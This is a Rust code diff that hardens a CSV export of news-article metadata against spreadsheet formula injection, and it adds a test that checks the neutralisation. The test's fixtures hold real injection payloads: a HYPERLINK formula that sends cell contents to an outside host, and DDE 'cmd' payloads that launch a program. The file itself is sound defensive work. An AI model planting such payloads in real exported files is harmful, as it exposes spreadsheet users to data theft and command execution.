@@ -316,38 +316,51 @@ impl ExportRow {
 /// The CSV header of an export.
 pub const CSV_HEADER: [&str; 10] = ["id", "title", "outlet", "origin", "date", "date_precision", "authors", "actors", "file", "words"];
 
-/// RFC 4180 CSV of the rows (lists joined with "; "), with a header line.
-pub fn csv(rows: &[ExportRow]) -> String {
-    fn field(out: &mut String, v: &str) {
-        if v.contains([',', '"', '\n', '\r']) {
-            out.push('"');
-            out.push_str(&v.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(v);
-        }
+/// A CSV cell that a spreadsheet could read as a formula: one that starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return (OWASP, "CSV Injection").
+fn formula_like(v: &str) -> bool {
+    v.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// One text cell as OWASP recommends against CSV injection: a cell that could start a formula
+/// gets a leading `'` (shown as text by Excel, LibreOffice and Google Sheets), and every text
+/// cell is wrapped in double quotes with its own quotes doubled (RFC 4180), so a separator,
+/// quote or line break inside it cannot start another cell either.
+pub fn csv_cell(v: &str) -> String {
+    let mut out = String::with_capacity(v.len() + 3);
+    out.push('"');
+    if formula_like(v) {
+        out.push('\'');
     }
+    out.push_str(&v.replace('"', "\"\""));
+    out.push('"');
+    out
+}
+
+/// RFC 4180 CSV of the rows (lists joined with "; "), with a header line. Text cells are
+/// quoted and neutralised ([`csv_cell`]); the numbers (id, words) are written bare.
+pub fn csv(rows: &[ExportRow]) -> String {
     let mut out = CSV_HEADER.join(",");
     out.push_str("\r\n");
     for r in rows {
-        let cells = [
-            r.id.to_string(),
-            r.title.clone(),
-            r.outlet.clone(),
-            r.origin.clone(),
-            r.date.clone(),
-            r.date_precision.clone(),
-            r.authors.join("; "),
-            r.actors.join("; "),
-            r.file.clone(),
-            r.words.to_string(),
-        ];
-        for (i, c) in cells.iter().enumerate() {
-            if i > 0 {
-                out.push(',');
-            }
-            field(&mut out, c);
+        let texts = [
+            r.title.as_str(),
+            r.outlet.as_str(),
+            r.origin.as_str(),
+            r.date.as_str(),
+            r.date_precision.as_str(),
+            &r.authors.join("; "),
+            &r.actors.join("; "),
+            r.file.as_str(),
+        ]
+        .map(csv_cell);
+        out.push_str(&r.id.to_string());
+        for cell in texts {
+            out.push(',');
+            out.push_str(&cell);
         }
+        out.push(',');
+        out.push_str(&r.words.to_string());
         out.push_str("\r\n");
     }
     out
@@ -453,6 +466,79 @@ mod tests {
         let out = csv(&[ExportRow::new(&a, false)]);
         let lines: Vec<&str> = out.split("\r\n").collect();
         assert_eq!(lines[0], CSV_HEADER.join(","));
-        assert_eq!(lines[1], "3,\"Putin, Xi and the \"\"no limits\"\" pact\",,,,,A. Writer; B. Writer,,x.txt,0");
+        assert_eq!(
+            lines[1],
+            "3,\"Putin, Xi and the \"\"no limits\"\" pact\",\"\",\"\",\"\",\"\",\"A. Writer; B. Writer\",\"\",\"x.txt\",0"
+        );
+    }
+
+    /// Reads one line of RFC 4180 CSV back into its cells (quoted or bare).
+    fn parse_line(line: &str) -> Vec<String> {
+        let (mut cells, mut cell, mut quoted, mut chars) = (Vec::new(), String::new(), false, line.chars().peekable());
+        while let Some(c) = chars.next() {
+            match (c, quoted) {
+                ('"', true) if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cell.push('"');
+                }
+                ('"', _) => quoted = !quoted,
+                (',', false) => cells.push(std::mem::take(&mut cell)),
+                _ => cell.push(c),
+            }
+        }
+        cells.push(cell);
+        cells
+    }
+
+    #[test]
+    fn csv_neutralises_formula_cells() {
+        use crate::model::{ArticleActor, Attributed};
+        let mut a = Article::new(7, "@evil.txt", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")");
+        a.outlet = Some(Attributed { name: "+1 Daily".into(), source: Source::Manifest, evidence: String::new() });
+        a.origin = Some(Attributed { name: "\tTab Agency".into(), source: Source::Manifest, evidence: String::new() });
+        a.authors = vec!["-2+3 Writer".into(), "=cmd|' /C calc'!A0".into()];
+        a.actors = vec![ArticleActor {
+            id: 0,
+            name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+            kind: ActorType::Person,
+            role: None,
+            forms: vec![],
+            metonyms: vec![],
+            mentions: 1,
+            spans: vec![],
+        }];
+        let mut b = Article::new(8, "b.txt", "\r=1+1, and a\nline");
+        b.authors = vec!["Plain Name".into()];
+        let out = csv(&[ExportRow::new(&a, false), ExportRow::new(&b, false)]);
+        // Every text cell is quoted; no cell (as a spreadsheet reads it) starts a formula.
+        let rows: Vec<&str> = out.trim_end_matches("\r\n").split("\r\n").collect();
+        assert_eq!(rows.len(), 3, "{out}");
+        let first = parse_line(rows[1]);
+        assert_eq!(
+            first,
+            [
+                "7",
+                "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
+                "'+1 Daily",
+                "'\tTab Agency",
+                "",
+                "",
+                "'-2+3 Writer; =cmd|' /C calc'!A0",
+                "'@SUM(1+1)*cmd|' /C calc'!A0",
+                "'@evil.txt",
+                "0"
+            ]
+        );
+        let second = parse_line(rows[2]);
+        assert_eq!(second[1], "'\r=1+1, and a\nline");
+        assert_eq!(second[6], "Plain Name");
+        for cells in [&first, &second] {
+            assert_eq!(cells.len(), CSV_HEADER.len());
+            assert!(cells.iter().all(|c| !formula_like(c)), "{cells:?}");
+        }
+        // A cell that is not formula-like is left as it is, only quoted.
+        assert_eq!(csv_cell("Reuters"), "\"Reuters\"");
+        assert_eq!(csv_cell("a \"b\""), "\"a \"\"b\"\"\"");
+        assert_eq!(csv_cell("=1"), "\"'=1\"");
     }
 }
